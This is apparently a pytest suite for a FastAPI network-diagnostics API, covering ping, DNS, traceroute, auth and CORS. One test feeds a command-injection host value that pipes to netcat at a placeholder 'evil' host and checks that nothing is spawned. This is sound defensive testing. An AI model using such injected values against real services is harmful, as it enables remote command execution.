"""
HTTP boundary tests through FastAPI's TestClient.
The diagnostics service is swapped for one backed by scripted fakes via
dependency_overrides, so no real processes are spawned.
"""
import json

import pytest
from fastapi.testclient import TestClient

from netdash import __version__
from netdash.base.config import SecurityConfig
from netdash.engine.diagnostics import DiagnosticsService, get_service
from netdash.engine.executor import ProcessOutput
from netdash.models import DnsRecord
from netdash.server.api import app
from netdash.toolkit.platforms import LinuxProfile

TRACE_OUTPUT = """traceroute to 1.1.1.1 (1.1.1.1), 30 hops max, 60 byte packets
 1  192.168.1.1  1.0 ms  1.1 ms  1.2 ms
 2  1.1.1.1  9.0 ms  9.1 ms  9.2 ms
"""

PING_OUTPUT = "64 bytes from 1.1.1.1: icmp_seq=1 ttl=57 time=4.2 ms\n"


class _Executor:
    def __init__(self):
        self.profile = LinuxProfile()
        self.calls = []

    async def execute(self, command, args, timeout_ms, on_line=None):
        self.calls.append((command, tuple(args)))
        stdout = {"ping": PING_OUTPUT, "traceroute": TRACE_OUTPUT}.get(command, "")
        if on_line is not None:
            for line in stdout.splitlines():
                await on_line(line)
        return ProcessOutput(stdout=stdout, stderr="", returncode=0)


class _Resolver:
    async def resolve(self, hostname, record_type="A", server=None):
        return [DnsRecord(type=record_type, value="93.184.216.34", ttl=120)]


@pytest.fixture
def executor():
    return _Executor()


@pytest.fixture
def client(executor):
    service = DiagnosticsService(executor=executor, resolver=_Resolver())
    app.dependency_overrides[get_service] = lambda: service
    yield TestClient(app)
    app.dependency_overrides.clear()


def test_health(client):
    response = client.get("/health")
    assert response.status_code == 200
    assert response.json() == {"status": "ok", "version": __version__}


def test_invoke_ping(client, executor):
    response = client.post("/v1/invoke", json={"operation": "ping", "args": ["1.1.1.1", {"count": 1}]})
    assert response.status_code == 200
    body = response.json()
    assert body["kind"] == "ping"
    assert body["alive"] is True
    assert body["packetLoss"] == 0.0
    assert executor.calls[0][0] == "ping"


def test_invoke_unsafe_host_never_spawns(client, executor):
    response = client.post("/v1/invoke", json={"operation": "ping", "args": ["1.1.1.1 | nc evil 1"]})
    assert response.status_code == 200
    assert response.json()["error"]
    assert executor.calls == []


def test_invoke_unknown_operation(client):
    body = client.post("/v1/invoke", json={"operation": "shell", "args": []}).json()
    assert body["kind"] == "error"
    assert body["code"] == "IPC_001"


def test_typed_ping_route(client, executor):
    response = client.post("/v1/network/ping", json={"host": "1.1.1.1", "count": 1, "timeoutMs": 1000})
    assert response.json()["times"] == [4.2]
    assert executor.calls[0][1][:4] == ("-c", "1", "-W", "1")


def test_dns_route(client):
    body = client.post("/v1/network/dns", json={"hostname": "example.com", "type": "A"}).json()
    assert body["kind"] == "dns_lookup"
    assert body["recordType"] == "A"
    assert body["server"] == "system"
    assert body["records"] == [{"type": "A", "value": "93.184.216.34", "ttl": 120}]


def test_port_scan_route_validation_error(client):
    body = client.post("/v1/network/port-scan", json={"host": "127.0.0.1", "ports": []}).json()
    assert body["kind"] == "port_scan"
    assert body["ports"] == []
    assert body["error"]


def test_traceroute_stream(client):
    response = client.post("/v1/network/traceroute/stream", json={"host": "1.1.1.1", "maxHops": 5})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    events = [json.loads(line) for line in response.text.splitlines() if line.strip()]
    assert [e["type"] for e in events] == ["hop", "hop", "result"]
    assert events[0]["ip"] == "192.168.1.1"
    assert len(events[-1]["hops"]) == 2


def test_system_info(client):
    body = client.get("/v1/system/info").json()
    assert body["kind"] == "system_info"
    assert body["cpuCount"] >= 1


def test_auth_required(client, netdash_config):
    token = netdash_config.security.api_token
    netdash_config.security = SecurityConfig(api_token=token, require_auth=True)

    missing = client.get("/v1/network/interfaces")
    assert missing.status_code == 401
    assert missing.json()["code"] == "AUTH_002"

    wrong = client.get("/v1/network/interfaces", headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 401
    assert wrong.json()["code"] == "AUTH_001"

    ok = client.get("/v1/network/interfaces", headers={"Authorization": f"Bearer {token}"})
    assert ok.status_code == 200
    assert ok.json()["kind"] == "interfaces"

    assert client.get("/health").status_code == 200


def test_cors_preflight(client):
    allowed = client.options("/v1/invoke", headers={
        "Origin": "http://localhost:3000",
        "Access-Control-Request-Method": "POST",
    })
    assert allowed.status_code == 200
    assert allowed.headers["access-control-allow-origin"] == "http://localhost:3000"

    denied = client.options("/v1/invoke", headers={
        "Origin": "http://evil.example",
        "Access-Control-Request-Method": "POST",
    })
    assert denied.status_code == 403


@pytest.mark.parametrize("path,payload,kind", [
    ("/v1/network/ping", {"host": "1.1.1.1", "count": "abc"}, "ping"),
    ("/v1/network/port-scan", {"host": "127.0.0.1", "ports": 80}, "port_scan"),
    ("/v1/network/traceroute", {"host": ["1.1.1.1"], "maxHops": "many"}, "traceroute"),
    ("/v1/network/dns", {"hostname": "example.com", "server": 8}, "dns_lookup"),
])
def test_malformed_fields_return_structured_result(client, executor, path, payload, kind):
    response = client.post(path, json=payload)
    assert response.status_code == 200
    body = response.json()
    assert body["kind"] == kind
    assert body["error"]
    assert executor.calls == []


def test_ping_route_clamps_non_numeric_timeout(client, executor):
    response = client.post("/v1/network/ping", json={"host": "1.1.1.1", "count": 1, "timeoutMs": "fast"})
    assert response.status_code == 200
    assert response.json()["alive"] is True
    assert executor.calls[0][1][:4] == ("-c", "1", "-W", "5")


def test_invoke_arp_scan_with_subnet_argument(client, executor):
    body = client.post("/v1/invoke", json={"operation": "arpScan", "args": ["192.168.1.0/24"]}).json()
    assert body["kind"] == "arp_scan"
    assert executor.calls[0][0] == "arp"
